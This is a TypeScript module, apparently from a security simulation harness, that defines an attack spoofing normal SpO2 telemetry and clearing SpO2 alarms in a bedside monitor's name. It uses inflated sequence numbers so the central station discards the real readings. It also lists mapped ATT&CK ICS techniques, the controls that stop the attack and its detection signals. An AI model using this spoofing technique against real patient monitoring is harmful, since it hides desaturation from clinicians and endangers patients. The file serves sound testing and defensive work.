import { z } from 'zod';
import { encodeEnvelope } from '../../net/envelope.ts';
import { defineAttack } from './attack.ts';
import { connectAsAttacker, runOf, targetTopic } from './support.ts';

/** A living oximeter's reading moves by a point or so; a flat line would look frozen (src/fleet/plausibility.ts). */
const WOBBLE = [0, 1, 0, -1] as const;

/**
 * False-normal SpO2 in the monitor's name, every second, and a clear of its SpO2 alarm: the central
 * station shows a patient breathing well while the patient desaturates. The readings start far ahead of
 * the monitor's own sequence numbers, so the station takes the spoof and drops the real readings as
 * repeats (the twin keeps the newest `seq`); the monitor's own alarm, raised at the bedside, is shown at
 * the station until the next clear, at most `everyS` later.
 */
export const spoofedNormalSpo2 = defineAttack({
  name: 'attack.spoofed-normal-spo2',
  category: 'attack',
  summary: 'publish normal SpO2 telemetry in a monitor’s name, and clear its SpO2 alarm, while its patient desaturates',
  precedent:
    'Spoofed reporting messages blind operators (ATT&CK for ICS T0856; Stuxnet replayed normal readings to the operators while ' +
    'it drove the centrifuges); CISA ICSMA-20-023-01 (GE CARESCAPE "MDhex": telemetry and alarms between monitors and the ' +
    'central station changeable over the network) and ICSMA-18-219-02 (docs/advisories.md).',
  labels: {},
  techniques: ['T0856', 'T0832', 'T0878'],
  stoppedBy: [
    { control: 'authentication', how: 'an outsider cannot connect' },
    { control: 'acl', how: 'a device publishes only under its own topic: another identity’s spoof is dropped before the station' },
  ],
  detectedBy: ['unknown-client', 'unexpected-topic', 'telemetry-seq-anomaly', 'refused-access'],
  impacts: ['station-unalarmed-desaturation-minutes', 'time-to-detection'],
  params: z.strictObject({
    spo2: z.number().min(90).max(99).default(97).describe('the false reading, %'),
    everyS: z
      .number()
      .int()
      .min(1)
      .max(3)
      .default(1)
      .describe('simulated seconds between spoofed readings (the station marks a monitor stale after 3)'),
    seq: z.number().int().positive().default(100_000).describe('sequence number of the first spoofed reading'),
  }),
  async execute(context, params) {
    const { target } = context;
    const session = await connectAsAttacker(context);
    let seq = params.seq;
    const spoof = async () => {
      if (session === undefined || !session.connected) return;
      const t = context.adversary.now();
      const envelope = (body: Record<string, unknown>) =>
        encodeEnvelope({ v: 1, device: target.deviceId, kind: target.kind, seq: seq, t, body });
      await session.publish(targetTopic(target, 'alarm'), envelope({ type: 'alarm.cleared', code: 'spo2.low' }));
      await session.publish(targetTopic(target, 'telemetry'), envelope({ spo2: params.spo2 + WOBBLE[seq % WOBBLE.length]! }));
      seq++;
    };
    await spoof();
    return { ...runOf(target.site, [session]), repeat: { everyMs: params.everyS * 1000, act: spoof } };
  },
});
